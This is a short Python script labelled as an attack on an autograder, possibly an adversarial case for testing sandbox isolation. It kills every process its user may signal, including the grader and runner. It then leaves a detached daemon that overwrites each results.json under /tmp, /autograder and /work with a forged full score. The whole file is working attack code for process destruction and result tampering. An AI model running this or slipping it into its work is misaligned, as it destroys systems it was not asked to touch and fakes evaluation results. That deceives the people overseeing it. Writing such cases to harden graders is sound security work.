# Attack: kill every process it may (the zygote, the grader, the runner), then leave a daemon
# that rewrites every results.json it can find with full marks once the grader has finished.
import glob
import json
import os
import signal
import time

FAKE = {"score": 10.0, "max_score": 10.0, "output": "FAKE", "tests": []}

try:
    os.kill(-1, signal.SIGKILL)  # everything this uid may signal
except OSError:
    pass
for pid in range(2, 1 << 16):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(2.0)
        for pattern in (
            "/tmp/**/results.json",
            "/autograder/**/results.json",
            "/work/**/results.json",
        ):
            for path in glob.glob(pattern, recursive=True):
                try:
                    with open(path, "w") as f:
                        json.dump(FAKE, f)
                except OSError:
                    pass
        time.sleep(10**6)
    os._exit(0)
